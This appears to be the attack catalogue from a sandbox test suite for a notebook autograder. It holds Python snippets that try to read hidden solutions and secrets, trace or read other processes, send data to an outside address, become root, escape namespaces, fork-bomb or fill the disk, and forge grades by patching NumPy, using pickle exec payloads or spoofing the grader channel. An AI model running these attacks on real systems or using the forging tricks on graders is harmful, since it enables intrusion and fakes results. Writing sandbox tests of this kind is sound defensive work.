"""What hostile students try, as data: each attack is a few lines, and says by itself whether it worked.

``peek`` and ``escape`` attacks run as a cell after :data:`PREAMBLE`; what they may aim at is in ``T``. A line
that begins with ``?`` is an attempt: it must be refused, and prints BREACH where it is not. ``forge`` attacks are
filled into a notebook and earn nothing; ``exhaust`` attacks are ``.py`` files that use up something.
"""

from __future__ import annotations

import os
import re
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Attack:
    kind: str
    name: str
    code: str
    success: str
    """What would prove that it worked."""
    control: bool = False
    """Whether it works without the sandbox: then that is tested, too."""
    says: str = ""
    """Words that the report must have."""

    def __str__(self):
        return self.name.replace(" ", "-")

    @property
    def cell(self):
        """The code with each attempt wrapped, so that a refusal lets the next one be tried."""
        return re.sub(r"^( *)\? (.*)$", r"\1attempt(lambda: \2)", self.code, flags=re.MULTILINE)


PREAMBLE = r"""
import contextlib, ctypes, fcntl, gc, glob, importlib, importlib.util, inspect, io, os, resource, runpy, signal
import socket, sqlite3, struct, subprocess, sys, time
import numpy as np
from multiprocessing import shared_memory

NUMBERS = dict(
    open=2, shmget=29, clone=56, fork=57, vfork=58, semget=64, msgget=68, truncate=76, link=86, unlink=87,
    symlink=88, chmod=90, lchown=94, ptrace=101, syslog=103, capset=126, rt_sigqueueinfo=129, utime=132,
    pivot_root=155, chroot=161, acct=163, settimeofday=164, mount=165, umount2=166, swapon=167, sethostname=170,
    iopl=172, init_module=175, setxattr=188, lsetxattr=189, removexattr=197, tgkill=234, utimes=235, mq_open=240,
    kexec_load=246, add_key=248, request_key=249, keyctl=250, openat=257, mknodat=259, fchownat=260,
    futimesat=261, fchmodat=268, unshare=272, utimensat=280, perf_event_open=298, prlimit64=302,
    name_to_handle_at=303, open_by_handle_at=304, setns=308, process_vm_readv=310, kcmp=312, renameat2=316,
    bpf=321, userfaultfd=323, pidfd_send_signal=424, io_uring_setup=425, open_tree=428, fsopen=430,
    pidfd_open=434, clone3=435, openat2=437, pidfd_getfd=438, fchmodat2=452
)
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.fopen.restype = ctypes.c_void_p
buffer = ctypes.create_string_buffer(4096)

def call(name, *arguments):
    "A system call by number, so that no wrapper of Python's stands in between."
    given = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(NUMBERS[name]), *given)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def attempt(do):
    with contextlib.suppress(OSError, ImportError, ValueError, sqlite3.Error):
        print("BREACH", do())

def memory_of(pid, address, size=64):
    here = ctypes.create_string_buffer(size)
    local, remote = (ctypes.c_uint64 * 2)(ctypes.addressof(here), size), (ctypes.c_uint64 * 2)(address, size)
    call("process_vm_readv", pid, local, 1, remote, 1, 0)
    return here.raw

def child(pid):
    "Let a child that should not exist leave at once."
    return pid or libc._exit(0)

def load(path):
    spec = importlib.util.spec_from_file_location("stolen", path)
    spec.loader.exec_module(importlib.util.module_from_spec(spec))
"""

PEEK = {
    "imports the grader and the solutions": """
for name in ("autograder", "autograder.exercises.softmax.softmax", "solutions", "solutions.softmax"):
    ? importlib.import_module(name)
""",
    "adds their folders to sys.path": """
sys.path[:0] = [T["checkout"], T["site"]]
importlib.invalidate_caches()
? importlib.import_module("autograder.secret")
? importlib.import_module("solutions.softmax")
del sys.path[:2]
""",
    "loads the solutions by hand": """
? load(T["checkout"] + "/solutions/softmax.py")
? runpy.run_path(T["checkout"] + "/solutions/softmax.py")
? open(T["checkout"] + "/solutions/softmax.py").read()
""",
    "reads the instructor's notebook and the hidden checks": """
for name in ("/source/softmax/softmax.ipynb", "/autograder/exercises/softmax/softmax.py", "/pyproject.toml"):
    ? open(T["checkout"] + name).read()
""",
    "climbs up from its own folder": """
? open("../" * 12 + T["secret"].lstrip("/")).read()
os.chdir("/")
? open("." + T["secret"]).read()
os.chdir(os.environ["HOME"])
""",
    "opens a file that everybody may read": """
? open(T["secret"]).read()
? io.open_code(T["secret"]).read()
? os.open(T["secret"], os.O_RDONLY)
? np.fromfile(T["secret"], "u1")
? np.loadtxt(T["secret"], str)
""",
    "opens it by system call": """
? call("open", T["secret"].encode(), 0)
? call("openat", -100, T["secret"].encode(), 0)
? call("openat2", -100, T["secret"].encode(), (ctypes.c_uint64 * 3)(), 24)
libc.fopen(T["secret"].encode(), b"r") and print("BREACH")
""",
    "reaches it through links of its own": """
os.symlink(T["secret"], "link")
os.symlink(T["folder"], "folder")
? open("link").read()
? open("folder/" + os.path.basename(T["secret"])).read()
? os.listdir("folder")
os.unlink("link"), os.unlink("folder")
""",
    "opens the path alone and reads through it": """
fd, folder = os.open(T["secret"], os.O_PATH), os.open(T["folder"], os.O_PATH)
? os.read(fd, 99)
? open(f"/proc/self/fd/{fd}").read()
? os.open(os.path.basename(T["secret"]), os.O_RDONLY, dir_fd=folder)
? os.listdir(folder)
os.close(fd), os.close(folder)
""",
    "opens it by a file handle": """
home = os.open(os.environ["HOME"], os.O_RDONLY)
? call("open_by_handle_at", home, T["handle"], 0)
? call("name_to_handle_at", -100, T["secret"].encode(), struct.pack("II", 128, 0) + bytes(128), buffer, 0)
os.close(home)
""",
    "queries the gradebook": """
? sqlite3.connect(T["gradebook"]).execute("select * from grade").fetchall()
? sqlite3.connect(f"file:{T['gradebook']}?immutable=1", uri=True).execute("select * from grade").fetchall()
? open(T["gradebook"], "rb").read()
""",
    "reads the course's secret": """
? open(T["seed"], "rb").read()
""",
    "lists folders": """
for where in ("/", "/tmp", "/etc", "/root", "/home", "/work", "/usr", "/dev", "/run", T["folder"], T["checkout"]):
    ? os.listdir(where)
""",
    "searches the disk": """
for found in glob.glob("/**/*.ipynb", recursive=True) + glob.glob("/**/gradebook.db", recursive=True):
    print("BREACH", found)
""",
    "reads /proc": """
for pid in ("self", 1, T["grader"], T["sibling"]):
    for name in ("environ", "cmdline", "maps", "mem", "status", "stack"):
        ? open(f"/proc/{pid}/{name}", "rb").read(9)
    for name in ("fd", "task", "root"):
        ? os.listdir(f"/proc/{pid}/{name}")
? os.listdir("/proc")
? open("/proc/meminfo").read()
""",
    "looks through its environment": """
if T["variable"] in os.environ:
    print("BREACH", os.environ[T["variable"]])
for entry in iter(iter(ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")).__next__, None):
    if T["variable"].encode() in entry:
        print("BREACH", entry)
""",
    "reads the memory of the grader and of another session": """
? memory_of(T["grader"], T["address"])
? memory_of(T["sibling"], T["sibling_address"])
""",
    "traces the grader and another session": """
for pid in (T["sibling"], T["grader"]):
    ? call("ptrace", 0x4206, pid, 0, 0)
    ? call("ptrace", 16, pid, 0, 0)
? call("ptrace", 0, 0, 0, 0)
""",
    "takes descriptors of the grader and of another session": """
for pid in (T["sibling"], T["grader"]):
    for fd in range(5):
        ? call("pidfd_getfd", call("pidfd_open", pid, 0), fd, 0)
    ? call("kcmp", os.getpid(), pid, 0, 0, 0)
os.closerange(5, 64)
""",
    "searches for inherited descriptors": """
for fd in range(5, 1024):
    ? os.fstat(fd)
""",
    "walks frames and objects for tests and references": """
hidden = ("tfihs-xam-on", "STSET NEDDIH", "rof_ecnarelot", "noitpecnocsiM")
texts = list(sys.modules) + [getattr(o, "__qualname__", "") for o in gc.get_objects() if callable(o)]
for entry in inspect.stack(0):
    texts += [*entry.frame.f_globals, *entry.frame.f_locals]
for holder in gc.get_objects():
    if isinstance(holder, (dict, list, tuple, set)):
        texts += list(holder.values() if isinstance(holder, dict) else holder)[:10_000]
for text in texts:
    if type(text) is str and any(word in text[::-1] for word in hidden):
        print("BREACH", text[:99])
""",
    "reads the program it runs in": """
text = open(os.environ["PYTHONHOME"] + "/worker.py").read()
if text != T["worker"] or any(word in text[::-1] for word in ("tfihs-xam-on", "STSET NEDDIH", "rof_ecnarelot")):
    print("BREACH")
""",
    "looks at devices and the kernel's log": """
for name in ("mem", "kmsg", "vda", "sda", "ptmx", "fuse", "kvm", "zero", "random"):
    ? os.open("/dev/" + name, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
? os.open("/proc/kcore", os.O_RDONLY)
? call("syslog", 3, buffer, 4096)
? call("syslog", 10, 0, 0)
""",
    "looks at shared memory and message queues": """
? call("shmget", T["shared"], 0, 0)
? call("shmget", 0, 4096, 0o1600)
? call("msgget", 0, 0o1600)
? call("semget", 0, 1, 0o1600)
? call("mq_open", b"left", 0o102, 0o600, 0)
? os.listdir("/dev/shm")
? open("/dev/shm/left", "w")
? shared_memory.SharedMemory(create=True, size=16)
""",
    "asks for keys of the kernel": """
? call("keyctl", 0, -3, 1)
? call("keyctl", 11, -5, buffer, 99)
? call("add_key", b"user", b"k", b"v", 1, -3)
? call("request_key", b"user", b"k", 0, -3)
""",
}

ESCAPE = {
    "connects by TCP": """
for to in (*T["tcp"], ("192.0.2.1", 80)):
    ? socket.create_connection(to, 1).send(b"out")
""",
    "sends datagrams and raw packets": """
? socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", T["udp"])
? socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
? socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
? socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
? socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
""",
    "asks a name server": """
? socket.getaddrinfo("example.org", 80)
""",
    "binds a port": """
? socket.create_server(("127.0.0.1", 0))
? socket.create_server(("0.0.0.0", 8899))
""",
    "connects to Unix sockets": """
for to in T["unix"]:
    ? socket.socket(socket.AF_UNIX).connect(to)
for to in T["datagram"]:
    ? socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"out", to)
    ? socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"out", to)
    ? socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendmsg([b"out"], [], 0, to)
""",
    "asks the kernel for the network": """
with contextlib.suppress(OSError):
    if {name for _, name in socket.if_nameindex()} > {"lo"}:
        print("BREACH")
""",
    "writes to files that everybody may write": """
path, folder = T["secret"], T["folder"]
? open(path, "a")
? open(path, "r+")
? os.truncate(path, 0)
? os.mkdir(folder + "/d")
? os.mkfifo(folder + "/f")
? os.symlink("/", folder + "/l")
? open(folder + "/new", "w")
? os.rename(path, path + "2")
? os.unlink(path)
""",
    "writes to them by system call": """
path = T["secret"].encode()
? call("truncate", path, 0)
? call("open", path, os.O_WRONLY)
? call("openat", -100, path, os.O_WRONLY | os.O_APPEND)
? call("symlink", b"/", path + b"l")
? call("mknodat", -100, path + b"n", 0o100600, 0)
? call("unlink", path)
""",
    "links and renames across the border of its folder": """
open("mine", "w").write("x")
? os.link("mine", T["folder"] + "/mine")
? os.link(T["secret"], "theirs")
? call("link", T["secret"].encode(), b"theirs2")
? call("renameat2", -100, b"mine", -100, T["secret"].encode(), 2)
? os.rename(T["secret"], "stolen")
? os.rename("mine", T["folder"] + "/moved")
""",
    "changes the mode, owner, times and attributes of a file": """
? os.chmod(T["secret"], 0o777)
? os.chown(T["secret"], os.getuid(), os.getgid())
? os.lchown(T["secret"], os.getuid(), -1)
? os.utime(T["secret"])
? os.utime(T["secret"], (1, 1))
? os.setxattr(T["secret"], "user.x", b"x")
? os.removexattr(T["secret"], "user.mark")
""",
    "changes them by system call": """
path, me, times = T["secret"].encode(), os.getuid(), (ctypes.c_uint64 * 4)(1, 0, 1, 0)
? call("chmod", path, 0o777)
? call("fchmodat", -100, path, 0o777, 0)
? call("fchmodat2", -100, path, 0o777, 0)
? call("lchown", path, me, -1)
? call("fchownat", -100, path, me, -1, 0)
? call("utime", path, times)
? call("utimes", path, times)
? call("futimesat", -100, path, times)
? call("utimensat", -100, path, times, 0)
? call("setxattr", path, b"user.x", b"x", 1, 0)
? call("lsetxattr", path, b"user.y", b"x", 1, 0)
? call("removexattr", path, b"user.mark")
""",
    "changes them through a path that was opened alone": """
fd = os.open(T["secret"], os.O_PATH)
? call("fchmodat2", fd, b"", 0o777, 0x1000)
? call("fchownat", fd, b"", os.getuid(), -1, 0x1000)
? call("utimensat", fd, b"", 0, 0x1000)
os.close(fd)
""",
    "rewrites the Python that others will get": """
top = os.environ["PYTHONHOME"]
for path in (top + "/worker.py", np.__file__, os.__file__, top + "/site/new.py"):
    ? open(path, "a")
? os.unlink(top + "/site/numpy")
? os.mkdir(top + "/site/json")
? os.symlink(os.getcwd(), top + "/site/evil")
? os.rename(top, top + "2")
""",
    "writes into another session's folder": """
? open(T["sibling_scratch"] + "/left", "w")
? os.mkdir(T["sibling_scratch"] + "/d")
? os.rename(T["sibling_scratch"], T["sibling_scratch"] + "2")
""",
    "signals the grader, another session and init": """
for pid in (T["sibling"], T["grader"], 1):
    ? os.kill(pid, 0)
    ? os.kill(pid, signal.SIGURG)
    ? os.killpg(pid, signal.SIGURG) if pid > 1 else os.kill(1, signal.SIGCONT)
    ? call("tgkill", pid, pid, 23)
    ? call("rt_sigqueueinfo", pid, 23, buffer)
    ? call("pidfd_send_signal", call("pidfd_open", pid, 0), 23, 0, 0)
os.closerange(5, 64)
""",
    "signals everybody at once": """
for number in (signal.SIGURG, signal.SIGUSR1):
    with contextlib.suppress(OSError):
        os.kill(-1, number)
""",
    "has the kernel signal another session": """
mine, other = socket.socketpair()
with contextlib.suppress(OSError):
    fcntl.fcntl(mine, 10, 12)  # F_SETSIG
    fcntl.fcntl(mine, fcntl.F_SETOWN, T["sibling"])
    fcntl.fcntl(mine, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    other.send(b"wake")
""",
    "becomes root": """
? os.setuid(0)
? os.seteuid(0)
? os.setresuid(0, 0, 0)
? os.setgid(0)
? os.setgroups([0])
? call("capset", (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[2**32 - 1] * 6))
""",
    "leaves for a namespace or a root of its own": """
for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x08000000, 0x200):
    ? call("unshare", flag)
? call("setns", call("pidfd_open", T["sibling"], 0), 0x20000)
? call("chroot", b".")
? call("pivot_root", b".", b".")
os.closerange(5, 64)
""",
    "mounts": """
? call("mount", b"none", b".", b"tmpfs", 0, 0)
? call("mount", b"/", b".", 0, 4096, 0)
? call("umount2", b"/dev", 2)
? call("fsopen", b"tmpfs", 0)
? call("open_tree", -100, b"/", 1)
""",
    "makes devices": """
? os.mknod("disk", 0o60600, os.makedev(254, 0))
? os.mknod("mem", 0o20600, os.makedev(1, 1))
? call("mknodat", -100, b"zero", 0o20666, os.makedev(1, 5))
""",
    "reaches for the kernel": """
? call("io_uring_setup", 8, buffer)
? call("bpf", 0, buffer, 64)
? call("userfaultfd", 1)
? call("perf_event_open", struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0)
? call("iopl", 3)
? call("kexec_load", 0, 0, 0, 0)
? call("init_module", buffer, 1, b"")
? call("swapon", b"x", 0)
? call("settimeofday", buffer, 0)
? call("sethostname", b"mine", 4)
? call("acct", 0)
""",
    "starts processes": """
? child(os.fork())
? child(os.forkpty()[0])
? os.posix_spawn("/bin/true", ["true"], {})
? os.posix_spawn(os.readlink("/proc/self/exe"), ["python", "-c", "1"], {})
? subprocess.run(["/bin/true"])
? subprocess.run("true", shell=True)
? os.popen("true").close()
os.system("true") == 0 and print("BREACH")
""",
    "starts processes by system call": """
? child(call("fork"))
? child(call("vfork"))
for flags in (17, 0x8000 | 17, 0x800000 | 17, 0x20000000 | 17, 0):
    ? child(call("clone", flags, 0, 0, 0, 0))
? child(call("clone3", (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17), 88))
""",
    "leaves a daemon": """
def daemon():
    if pid := os.fork():
        return pid
    os.setsid()
    if os.fork() == 0:
        time.sleep(30)
    os._exit(0)
? daemon()
""",
    "runs the shell in its own place": """
for path in ("/bin/sh", "/bin/bash", "/usr/bin/env", "/bin/busybox"):
    ? os.execv(path, [path, "-c", "echo out >&4"])
""",
    "raises its limits": """
for what in ("AS", "CPU", "FSIZE", "NOFILE", "CORE"):
    ? resource.setrlimit(getattr(resource, "RLIMIT_" + what), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
? call("prlimit64", 0, 9, (ctypes.c_uint64 * 2)(2**64 - 1, 2**64 - 1), 0)
? os.nice(-5)
? os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
""",
}
REPLACES = """
program = 'import json, os, struct\\ntry: said = "BREACH " + open(%r).read()\\nexcept OSError: said = "refused"\\n'
program += 'o = dict(output_type="stream", name="stdout", text=said)\\n'
program += 't = json.dumps(dict(t="cell", outputs=[o], error=None)).encode()\\n'
program += 'os.write(4, struct.pack(">II", len(t), 0) + t)\\nos.read(3, 1)'
interpreter, arguments = os.readlink("/proc/self/exe"), ["python", "-S", "-c", program % T["secret"]]
os.set_inheritable(3, True), os.set_inheritable(4, True)
"""
REPLACE = {
    "replaces itself by a new interpreter": REPLACES + "? os.execv(interpreter, arguments)",
    "runs a program that lies in memory": REPLACES
    + """
def run():
    fd = os.memfd_create("program", 0)
    os.write(fd, open(interpreter, "rb").read(60 << 20))
    os.execve(fd, arguments, os.environ)
? run()
""",
}
# Without the sandbox there is nothing for them to succeed with, or it may not be tried for the sake of a test.
UNCONTROLLED = """
imports the grader and the solutions; traces the grader and another session; signals everybody at once;
searches for inherited descriptors; walks frames and objects for tests and references; searches the disk;
reads the program it runs in; asks a name server; asks the kernel for the network; becomes root; mounts;
leaves for a namespace or a root of its own; reaches for the kernel; raises its limits; leaves a daemon;
has the kernel signal another session; rewrites the Python that others will get; makes devices;
looks through its environment; runs the shell in its own place; starts processes by system call;
asks for keys of the kernel; signals the grader, another session and init; writes into another session's folder;
looks at shared memory and message queues; replaces itself by a new interpreter; runs a program that lies in memory
"""

CHANNEL = """
import json, os, struct
def send(message, blob=b""):
    text = json.dumps(message).encode()
    os.write(4, struct.pack(">II", len(text), len(blob)) + text + blob)
def returned(value, blob=b"", **more):
    send({"t": "returned", "value": value, "changed": False, "printed": "", "warnings": [], **more}, blob)
"""
FORGE = {
    "calls the display hook": """
import sys
sys.displayhook(4.0)
def softmax(*_, **__):
    sys.displayhook(4.0)
4.0
""",
    "prints marks": """
print("4.0"), print('{"score": 4.0, "max_score": 4.0, "passed": true}')
def softmax(*_, **__):
    print('{"t": "returned", "score": 4.0}')
    return "4.0"
""",
    "patches NumPy": """
import numpy as np
np.allclose = np.isclose = np.array_equal = np.testing.assert_allclose = lambda *_, **__: True
right = np.zeros(1)
np.array = np.asarray = np.frombuffer = np.isnan = np.abs = lambda *_, **__: right
def softmax(*_, **__):
    return right
""",
    "patches builtins": """
import builtins
def softmax(*_, **__):
    builtins.isinstance = builtins.callable = lambda *_: True
    builtins.abs = builtins.sum = builtins.len = lambda *_: 0
    builtins.float = builtins.type = lambda *_: 1.0
    return 1.0
""",
    "returns what equals everything": """
class Equal(float):
    __eq__ = __le__ = __ge__ = __lt__ = lambda self, other: True
    __ne__ = __gt__ = lambda self, other: False
    __sub__ = __rsub__ = __abs__ = lambda self, *_: Equal(0)
    __hash__ = float.__hash__
def softmax(*_, **__):
    return Equal(7)
""",
    "returns an array that lies": """
import numpy as np
class Lying(np.ndarray):
    shape, dtype, size = (2, 3), np.dtype("f8"), 6
    __eq__ = lambda self, other: True
    __array_ufunc__ = lambda self, *_, **__: np.True_
    __array_function__ = lambda self, *_, **__: np.True_
    tobytes = lambda self: b""
    __reduce__ = lambda self: (print, ())
    __hash__ = None
def softmax(z, *_, **__):
    return np.zeros_like(z, dtype=float).view(Lying)
""",
    "returns what claims to be an array": """
class Claims:
    __array_priority__ = 1e9
    __array_interface__ = {"shape": (2, 3), "typestr": "<f8", "data": (0, False), "version": 3}
    __array__ = lambda self, *_, **__: 1 / 0
    __float__ = __len__ = __index__ = lambda self: 1
    __getattr__ = lambda self, name: self
    __getitem__ = __call__ = lambda self, *_: self
def softmax(*_, **__):
    return Claims()
""",
    "hides a command in a pickle": """
import pickle, numpy as np
class Payload:
    __reduce__ = lambda self: (exec, ("import os; os.environ['BREACH'] = 'yes'",))
ways = [Payload(), [Payload()], np.array([Payload()]), pickle.dumps(Payload()), repr(pickle.dumps(Payload())),
    "__import__('os').environ.__setitem__('BREACH', 'yes')", "!!python/object/apply:os.system [exit]"]
def softmax(*_, **__):
    ways.append(ways.pop(0))
    return ways[0]
""",
    "raises what carries a command": """
class Returned(Exception):
    __reduce__ = lambda self: (exec, ("import os; os.environ['BREACH'] = 'yes'",))
    __str__ = lambda self: 1 / 0
def softmax(*_, **__):
    raise Returned(4.0)
""",
    "says on the channel that every call was right": CHANNEL
    + """
def softmax(*_, **__):
    returned(True)
    os._exit(0)
""",
    "adds a score to what it sends": CHANNEL
    + """
def softmax(*_, **__):
    returned({"t": "float", "v": "0x1p0"}, score=4.0, passed=True)
""",
    "sends a verdict in place of a value": CHANNEL
    + """
def softmax(*_, **__):
    send({"t": "cell", "outputs": [{"output_type": "execute_result", "data": {"text/plain": "4.0"}, "metadata": {},
                                    "execution_count": 1}], "error": None})
""",
    "answers calls before they are made": CHANNEL
    + """
right = struct.pack("6d", 0.6590011388859679, 0.2424329707047139, 0.0985658904093182, 1 / 3, 1 / 3, 1 / 3)
def softmax(*_, **__):
    for _ in range(60):
        returned({"t": "array", "dtype": "<f8", "shape": [2, 3]}, right)
    return 1.0
""",
    "replaces the program it runs in": """
import sys
worker = sys.stdout.worker
worker.call = lambda message, blob, blobs: {"t": "returned", "value": True, "changed": False, "printed": "",
                                            "warnings": []}
def softmax(*_, **__):
    return 1.0
""",
    "replaces the program's libraries": """
import json
def softmax(*_, **__):
    json.dumps = lambda *_, **__: '{"t":"returned","value":true,"changed":false,"printed":"","warnings":[]}'
    return 1.0
""",
    "claims to have asked the callback": CHANNEL
    + """
import numpy as np
def softmax(*_, **__):
    return 1.0
def numerical_gradient(f, x, h=1e-5):
    for index in range(x.size):
        f(x + h), f(x - h)
    return np.zeros_like(x)
""",
    "defines a check of its own": """
import sys, types
def check(*_, **__):
    return 4.0
sys.modules["autograder"] = types.SimpleNamespace(check=check)
def softmax(*_, **__):
    return 1.0
""",
    "looks for the truth in the caller's frames": """
import sys
def softmax(*_, **__):
    frame = sys._getframe()
    while frame := frame.f_back:
        for name in ("truth", "expected", "reference", "answer"):
            if name in frame.f_locals:
                return frame.f_locals[name]
    return 1.0
""",
    "returns a list without end": """
class Endless(list):
    def __iter__(self):
        while True:
            yield 0.5
    __len__ = lambda self: 1
def softmax(*_, **__):
    return Endless([0.5])
""",
    "returns a number that lies about its digits": """
class Lying(float):
    hex = __repr__ = __str__ = lambda self: "nan"
    __float__ = lambda self: 0.5
def softmax(z, *_, **__):
    return [[Lying(0.3)] * 3] * 2
""",
    "writes numbers as text": """
def softmax(z, *_, **__):
    import numpy as np
    e = np.exp(z - np.max(z, -1, keepdims=True))
    return str((e / e.sum(-1, keepdims=True)).tolist())
""",
    "leaves before it is asked": """
import atexit, os, sys
atexit.register(print, "4.0")
def softmax(*_, **__):
    sys.exit(0)
def logsumexp(*_, **__):
    raise SystemExit("4.0")
""",
    "dies before it is asked": """
import os
def softmax(*_, **__):
    os._exit(0)
""",
    "knows the public examples by heart": """
import numpy as np
def softmax(z, *_, **__):
    known = np.exp([[2.0, 1.0, 0.1], [0.0, 0.0, 0.0]])
    return known / known.sum(axis=1, keepdims=True) if np.shape(z) == (2, 3) else np.full(np.shape(z), 0.5)
""",
}

EXHAUST = {
    # What uses something up, and the words that must be among what the report says.
    "loops without end": ("while True: pass", "The code before it stopped"),
    "loops in the function": ("def softmax(*_):\n    while True: pass", "took more than 1 seconds"),
    "ignores every interrupt": (
        "import signal\ndef softmax(*_):\n    signal.pthread_sigmask(signal.SIG_BLOCK, [2])\n    while True: pass",
        "took more than 1 seconds",
    ),
    "stops its own process": (
        "import os\ndef softmax(*_):\n    os.kill(os.getpid(), 19)",
        "took more than 1 seconds",
    ),
    "computes a number nobody can hold": ("def softmax(*_):\n    return 9**9**9", "took more than 1 seconds"),
    "takes all memory": ("def softmax(*_):\n    return 'x' * (8 << 30)", "raised MemoryError"),
    "takes it bit by bit": (
        "import mmap\nkept = []\ndef softmax(*_):\n    while True: kept.append(mmap.mmap(-1, 1 << 26))",
        "raised OSError",
    ),
    "fills the disk": (
        (
            "import time\ndef softmax(*_):\n    for i in range(9):\n"
            "        open(f'f{i}', 'wb').write(bytes(8 << 20))\n    time.sleep(3)"
        ),
        "MB of files",
    ),
    "prints without end": ("def softmax(*_):\n    while True: print('x' * 9999)", "took more than 1 seconds"),
    "raises a text without end": ("def softmax(*_):\n    raise ValueError('x' * (50 << 20))", "raised ValueError"),
    "returns more than can be an answer": (
        "import numpy as np\ndef softmax(*_):\n    return np.zeros(8 << 20)",
        "too large to be an answer",
    ),
    "returns a list of millions": ("def softmax(*_):\n    return [0.5] * 10**7", "too many items"),
    "starts threads without number": (
        (
            "import threading\nwait = threading.Event()\ndef softmax(*_):\n"
            "    while True: threading.Thread(target=wait.wait, daemon=True).start()"
        ),
        "raised RuntimeError",
    ),
    "forks without end": ("import os\ndef softmax(*_):\n    while True: os.fork()", "raised BlockingIOError"),
    "calls itself without end": ("def softmax(*_):\n    return softmax()", "raised RecursionError"),
    "opens files without end": (
        "kept = []\ndef softmax(*_):\n    while True: kept.append(open('/dev/null'))",
        "raised OSError",
    ),
    "warns without end": (
        "import warnings\ndef softmax(*_):\n    for i in range(2000): warnings.warn(f'no. {i}')\n    return 1.0",
        "It warned",
    ),
}

LIVE = [
    Attack(kind, name, code, "it prints BREACH", control=name not in UNCONTROLLED.replace("\n", " "))
    for kind, group in (("peek", PEEK), ("escape", ESCAPE), ("escape", REPLACE))
    for name, code in group.items()
]
FORGED = [Attack("forge", name, code, "a mark above 0") for name, code in FORGE.items()]
EXHAUSTING = [
    Attack("exhaust", name, code, "a grader that hangs, dies or grows", says=words)
    for name, (code, words) in EXHAUST.items()
]
ATTACKS = LIVE + FORGED + EXHAUSTING


def processes_in(folder):
    """The living processes that work in a folder or have it in their environment."""
    mark = str(folder).encode()
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            where, environment = os.readlink(entry / "cwd"), (entry / "environ").read_bytes()
        except OSError:
            continue
        if where.startswith(str(folder)) or mark in environment:
            found.append(int(entry.name))
    return found
